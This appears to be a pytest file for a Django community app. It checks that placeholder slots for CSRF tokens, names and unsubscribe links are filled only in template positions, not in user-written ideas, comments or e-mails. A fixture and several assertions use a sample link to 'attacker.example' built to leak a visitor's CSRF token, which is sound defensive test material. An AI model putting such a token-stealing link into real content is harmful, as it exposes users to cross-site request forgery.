"""Shared renderings fill the reader's own parts (CSRF token, page to come back to, name,
unsubscribe link) only where our templates put them, never where content says the same
words (config/slots.py): an idea linking to `https://attacker.example/?t=<slot>` must not
carry each visitor's token to the attacker."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from django.core import mail
from django.test import Client

from community.models import Membership, Role
from config.slots import Slots, cut, fill, fill_cut
from ideas.services import comment_create
from notifications.emails import personalise, render_notification
from notifications.models import Kind
from tests.factories import make_idea

OLD_SLOTS = (
    "PAGECSRFTOKENSLOT",
    "CARDCSRFTOKENSLOT",
    "CARDNEXTPATHSLOT",
    "RECIPIENTNAMESLOT",
    "RECIPIENTHTMLNAMESLOT",
    "UNSUBSCRIBEURLSLOT",
)
WORDS = " ".join(OLD_SLOTS)
# What the new markers look like, with a guessed nonce: still words.
GUESSED = f"slot{'0' * 32}csrf"
# Enough quiet words that the moderation rules do not take the slot names for shouting.
CALM = " ".join(["les trains du matin sont souvent en retard et bondés"] * 6)
MARKER = re.compile(r"slot[0-9a-f]{32}")


class TokenInputs(HTMLParser):
    """The values of the page's csrfmiddlewaretoken inputs."""

    def __init__(self) -> None:
        super().__init__()
        self.tokens: list[str] = []

    def handle_starttag(self, tag, attrs) -> None:
        attributes = dict(attrs)
        if tag == "input" and attributes.get("name") == "csrfmiddlewaretoken":
            self.tokens.append(attributes["value"])


def assert_token_only_in_its_inputs(page: str) -> None:
    """Each token (Django masks each one afresh) is in forms' inputs, and nowhere else."""
    parser = TokenInputs()
    parser.feed(page)
    assert parser.tokens, "the page has forms"
    for token in set(parser.tokens):
        assert page.count(token) == parser.tokens.count(token)  # not in a link, not in a text


@pytest.fixture
def bait(community_a, member_a, django_capture_on_commit_callbacks):
    """An idea and a comment quoting every slot's name, old and new."""
    idea = make_idea(
        community_a,
        member_a,
        title="Des quais CARDCSRFTOKENSLOT CARDNEXTPATHSLOT mieux abrités de la pluie et du vent en hiver",
        body=f"Voir [ce lien](https://attacker.example/?t=PAGECSRFTOKENSLOT) et {WORDS} {GUESSED}. {CALM}",
    )
    with django_capture_on_commit_callbacks(execute=True):
        comment_create(idea=idea, author=member_a, body=f"Un avis CARDCSRFTOKENSLOT {WORDS} {GUESSED}. {CALM}")
    idea.refresh_from_db()
    assert idea.moderation_state == "approved"
    return idea


@pytest.mark.parametrize("page", ["/", "/ideas/", "idea"])
def test_content_quoting_a_slot_is_shown_as_written_on_a_cached_page(bait, page):
    url = bait.get_absolute_url() if page == "idea" else page
    Client().get(url)  # the page and its cards are now cached
    for _visitor in range(2):
        html = Client().get(url).content.decode()
        assert "CARDCSRFTOKENSLOT" in html and "CARDNEXTPATHSLOT" in html  # the title, on cards and page
        assert_token_only_in_its_inputs(html)
    if page == "idea":
        assert "https://attacker.example/?t=PAGECSRFTOKENSLOT" in html
        assert html.count(GUESSED) == 2  # the idea's body and the comment


def test_content_quoting_a_slot_is_shown_as_written_to_a_member(bait, member_b, community_a):
    Membership.objects.create(user=member_b, community=community_a, role=Role.MEMBER)
    client = Client()
    client.force_login(member_b)  # a member with no part in the thread: its shared rendering
    for _page in range(2):
        html = client.get(bait.get_absolute_url()).content.decode()
        assert "https://attacker.example/?t=PAGECSRFTOKENSLOT" in html
        assert_token_only_in_its_inputs(html)


def test_each_rendering_has_markers_of_its_own():
    first, second = Slots(), Slots()
    assert first["csrf"] != second["csrf"]
    assert fill(f"{first['csrf']} {second['csrf']}", {first["csrf"]: "T"}) == f"T {second['csrf']}"
    # One pass: a value filled in is never filled again.
    assert fill(f"{first['a']}{first['b']}", {first["a"]: first["b"], first["b"]: "B"}) == f"{first['b']}B"


# --- E-mails ------------------------------------------------------------------------------


def unsubscribe_link(message) -> str:
    return message.extra_headers["List-Unsubscribe"][1:-1]


def test_a_comment_quoting_the_slots_reaches_the_ideas_author_as_written(
    idea_a, member_a, member_b, community_a, django_capture_on_commit_callbacks
):
    Membership.objects.create(user=member_b, community=community_a, role=Role.MEMBER)
    mail.outbox.clear()
    with django_capture_on_commit_callbacks(execute=True):
        comment_create(idea=idea_a, author=member_b, body=f"Citons {WORDS}. {CALM}")
    [message] = [message for message in mail.outbox if message.to == [member_a.email]]
    raw = message.message().as_bytes().decode()
    link = unsubscribe_link(message)
    html = message.alternatives[0][0]
    for text in (message.body, html, raw):
        assert "RECIPIENTNAMESLOT" in text and "UNSUBSCRIBEURLSLOT" in text
    assert f"Citons {WORDS}" in message.body
    # The recipient's link where the footer and the headers put it, and nowhere else.
    assert message.body.count(link) == 1
    assert raw.count(link) == 3  # List-Unsubscribe, the text footer, the HTML footer
    assert MARKER.findall(raw) == []


def test_an_excerpt_quoting_the_slots_is_shown_as_written(idea_a, member_a, community_a):
    data = {"actor": "Camille", "title": idea_a.title, "excerpt": f"{WORDS} {GUESSED}"}
    rendered = render_notification(
        kind=Kind.COMMENT_ON_MINE, data=data, url=idea_a.get_absolute_url(), community=community_a, language="fr"
    )
    message = personalise(rendered, member_a, "comments", community_a)
    raw = message.message().as_bytes().decode()
    assert WORDS in message.body and GUESSED in message.body
    assert message.body.count(unsubscribe_link(message)) == 1
    assert MARKER.findall(raw.replace(GUESSED, "")) == []  # every slot filled


def test_a_slot_filled_by_a_function_gets_a_fresh_value_at_each_place():
    slots = Slots()
    drawn = iter(["first", "second", "third"])
    filled = fill(
        f"a={slots['key']} b={slots['key']} c={slots['csrf']}", {slots["key"]: lambda: next(drawn), slots["csrf"]: "t"}
    )
    assert filled == "a=first b=second c=t"


def test_names_that_begin_one_another_and_other_renderings_markers():
    """Markers of the same names drawn by two renderings share one compiled pattern: each
    fill still replaces only its own, and a name that begins another never takes its place."""
    first, second = Slots(), Slots()
    for slots, other in ((first, second), (second, first)):
        content = f"{slots['v1']}|{slots['v12c']}|{slots['v1c']}|{other['v12c']}|{slots['v12']}"
        values = {slots[name]: name.upper() for name in ("v1", "v12c", "v1c", "v12")}
        assert fill(content, values) == f"V1|V12C|V1C|{other['v12c']}|V12"


def test_a_nonce_of_another_shape_is_still_filled():
    slots = Slots("keptbyanolderrelease42")
    assert fill(f"<{slots['csrf']}>", {slots["csrf"]: "T"}) == "<T>"


def test_a_page_cut_at_its_slots_fills_as_the_search_does():
    """A kept page is cut once at its slots (config.slots.cut) and filled by joining: the same
    text as `fill` gives, names that begin one another included, another rendering's
    markers and a name given no value written back as they were, a function called at
    each place."""
    slots, other = Slots(), Slots()
    content = (
        f"<p>{slots['v1']}|{slots['v12c']}|{slots['v1c']}|{other['v12c']}|{slots['v12']}"
        f"|{slots['key']}|{slots['key']}|{slots['unfilled']}|{GUESSED}</p>"
    ).encode()
    drawn = iter([b"first", b"second"])
    values = {name: name.upper().encode() for name in ("v1", "v12c", "v1c", "v12")}

    pieces = cut(content, slots)

    assert pieces[1::2] == ("v1", "v12c", "v1c", "v12", "key", "key", "unfilled")
    assert fill_cut(pieces, slots.nonce, {**values, "key": lambda: next(drawn)}) == (
        f"<p>V1|V12C|V1C|{other['v12c']}|V12|first|second|{slots['unfilled']}|{GUESSED}</p>".encode()
    )
    assert fill_cut(cut(b"no slot here", slots), slots.nonce, values) == b"no slot here"
    assert cut(content, Slots()) == (content,)  # a rendering that asked for no slot
